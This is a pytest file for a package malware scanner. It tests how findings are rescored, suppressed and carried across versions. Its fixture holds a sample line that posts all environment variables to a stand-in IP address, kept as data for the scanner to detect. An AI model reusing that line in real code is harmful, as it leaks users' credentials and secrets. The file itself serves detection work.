"""Old evidence is weighed anew with both verdicts kept, and a suppressed finding is shown but weighs nothing."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from typing import Any

import pytest

from pumpkin.analysis import static, triage
from pumpkin.analysis.triage import Mark, State
from pumpkin.model.findings import Finding, Outcome

NOW = datetime(2026, 11, 21, 12, tzinfo=UTC)
THIEF = b"import os, urllib.request\nurllib.request.urlopen('http://198.51.100.9/', data=str(os.environ).encode())\n"
FILES = {"x-1.0/x.py": THIEF, "x-1.0/PKG-INFO": b"Metadata-Version: 2.1\nName: x\nVersion: 1.0\n"}


@pytest.fixture
def report() -> dict[str, Any]:
    return static.scan_files(FILES, "x-1.0.tar.gz", "pypi").as_json()


def mark(finding: dict[str, Any], state: State = State.SUPPRESSED, days: int = 1) -> Mark:
    found = triage.mark_of(Finding.of(finding))
    return Mark("pypi/x", found, state, "our own telemetry", "ada", NOW, NOW + timedelta(days=days))


def test_the_same_rules_give_the_same_verdict(report: dict[str, Any]) -> None:
    again = triage.rescored(report, rules=report["rules"], now=NOW)
    assert triage.changed(again) == (Outcome.MALICIOUS, Outcome.MALICIOUS)
    assert (again["score"], again["findings"]) == (report["score"], report["findings"])


def test_both_verdicts_are_kept_and_dated(report: dict[str, Any]) -> None:
    twice = triage.rescored(triage.rescored(report, rules="b", now=NOW), rules="c", now=NOW + timedelta(days=1))
    assert [one["rules"] for one in twice["verdicts"]] == [report["rules"], "b", "c"]
    assert [one["at"] for one in twice["verdicts"]][1:] == ["2026-11-21T12:00:00+00:00", "2026-11-22T12:00:00+00:00"]


def test_a_suppressed_finding_is_shown_and_weighs_nothing(report: dict[str, Any]) -> None:
    marks = [mark(one) for one in report["findings"]]
    again = triage.rescored(report, rules="b", now=NOW, marks=marks)
    assert (triage.changed(again)[1], len(again["findings"])) == (Outcome.CLEAN, len(report["findings"]))


@pytest.mark.parametrize(("state", "days"), [(State.REVIEWED, 1), (State.SUPPRESSED, -1)])
def test_a_reviewed_finding_and_an_ended_mark_count_as_before(report: dict[str, Any], state: State, days: int) -> None:
    marks = [mark(one, state, days) for one in report["findings"]]
    assert triage.changed(triage.rescored(report, rules="b", now=NOW, marks=marks))[1] is Outcome.MALICIOUS


def test_a_mark_holds_for_the_next_version_with_the_same_lines(report: dict[str, Any]) -> None:
    other = static.scan_files({**FILES, "x-1.0/y.py": b"pass\n"}, "x-1.1.tar.gz", "pypi").as_json()
    assert {triage.mark_of(Finding.of(one)) for one in report["findings"]} == {
        triage.mark_of(Finding.of(one)) for one in other["findings"]
    }


def test_a_fresh_scan_takes_the_place_of_the_old_static_findings(report: dict[str, Any]) -> None:
    old = {**report, "findings": [], "outcome": "clean", "score": 0}
    again = triage.rescored(old, rules="b", now=NOW, fresh=report)
    assert triage.changed(again) == (Outcome.CLEAN, Outcome.MALICIOUS)


def test_another_artifact_is_refused(report: dict[str, Any]) -> None:
    with pytest.raises(ValueError, match="not the artifact"):
        triage.rescored(report, rules="b", now=NOW, fresh={**report, "artifact": {"sha256": "0"}})


def test_a_gap_stays_a_gap() -> None:
    scan = static.scan_files({"a.txt": b"x"}, "x", gaps=["a.bin: larger than may be"]).as_json()
    assert triage.changed(triage.rescored(scan, rules="b", now=NOW))[1] is Outcome.INCOMPLETE
